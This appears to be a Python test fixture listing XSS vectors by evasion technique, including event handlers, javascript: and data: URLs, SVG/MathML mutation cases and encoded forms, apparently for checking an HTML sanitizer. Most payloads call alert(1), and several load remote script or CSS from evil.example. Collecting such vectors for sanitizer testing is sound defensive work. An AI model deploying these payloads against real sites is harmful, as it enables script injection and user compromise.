"""Known XSS vectors, after the OWASP filter-evasion cheat sheet, PortSwigger's XSS
cheat sheet and published mutation-XSS cases, grouped by the trick they use."""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script/xss src="https://evil.example/x.js"></script>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<script src=//evil.example/.j>",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<script type="text/javascript">alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script\x20type="text/javascript">javascript:alert(1);</script>',
    "<script ~~~>alert(0%0)</script ~~~>",
    '<script type="module">import("https://evil.example/m.js")</script>',
    "</p></div></article><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>click</p>",
    '<a href="https://ok.example/" onmouseover=alert(1)>link</a>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<div/onmouseover='alert(1)'>",
    "<table><tr><td onmouseover=alert(1)>cell</td></tr></table>",
    "<figure onclick=alert(1)><img src=/media/a.jpg alt=a>"
    "<figcaption onmouseover=alert(1)>c</figcaption></figure>",
    '<blockquote cite="javascript:alert(1)" onclick=alert(1)>quote</blockquote>',
    "<h2 onmouseenter=alert(1)>heading</h2>",
    "<ul><li onpointerdown=alert(1)>item</li></ul>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<img src=x onerror\x0b=alert(1)>",
    "<x onclick=alert(1)>custom element</x>",
    "<frameset onload=alert(1)>",
    '<a href="https://www.youtube.com/watch?v=x" onclick="alert(1)">video</a>',
    "<strong onanimationstart=alert(1)>bold</strong>",
]

JAVASCRIPT_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&NewLine;ascript&colon;alert(1)">x</a>',
    '<a href="&#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<base href="javascript:alert(1)//">',
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    '<a href="&#x26;#x6A;avascript:alert(1)">x</a>',
    '<img src="https://ok.example/a.jpg" srcset="javascript:alert(1) 1x">',
    "<video poster=javascript:alert(1)></video>",
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&#x3a;alert(1)">x</a>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
]

DATA_URLS = [
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<a href="&#100;ata:text/html,<script>alert(1)</script>">x</a>',
    '<a href="  data:text/html,x">x</a>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="da\nta:text/html,<script>alert(1)</script>">x</a>',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>',
    '<svg><image href="javascript:alert(1)"/></svg>',
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>"></style></h1>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]

CSS = [
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1));">styled</div>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="behavior: url(xss.htc);">styled</div>',
    "<p style=\"-moz-binding:url('https://evil.example/x.xml#xss')\">styled</p>",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
    '<img style="x:expr/**/ession(alert(1))" src=x>',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<a href="https://ok.example/" style="color:red">styled link</a>',
    '<figure class="image" style="width:50%"><img src="/media/a.jpg" alt="a"></figure>',
]

BROKEN_MARKUP = [
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="https://ok.example/"<script>alert(1)</script>>x</a>',
    "<<img src=x onerror=alert(1)>>",
    '<img """><script>alert(1)</script>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p <img src=x onerror=alert(1)>",
    "<div><p>unclosed<a href=javascript:alert(1)>x",
    "</p><script>alert(1)</script><p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<title><img src=x onerror=alert(1)></title>",
    "<object data=javascript:alert(1)>",
    '<embed src="javascript:alert(1)">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<a href='https://ok.example/'>one<a href=javascript:alert(1)>two",
    "<table><td><a href=javascript:alert(1)>cell</td></table>",
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '"onmouseover="alert(1)',
    "'';!--\"<XSS>=&{()}",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="&#106avascript:alert(1)">x</a>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

EMBEDS = [
    '<oembed url="javascript:alert(1)"></oembed>',
    '<oembed url="https://evil.example/embed"></oembed>',
    '<figure class="media"><oembed url="data:text/html,<script>alert(1)</script>"></oembed></figure>',
    '<figure class="media"><oembed url="http://www.youtube.com.evil.example/x"></oembed></figure>',
    '<iframe src="https://evil.example/player"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>',
]

ALL = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + JAVASCRIPT_URLS
    + DATA_URLS
    + SVG_AND_MATHML
    + CSS
    + BROKEN_MARKUP
    + ENCODED
    + EMBEDS
)
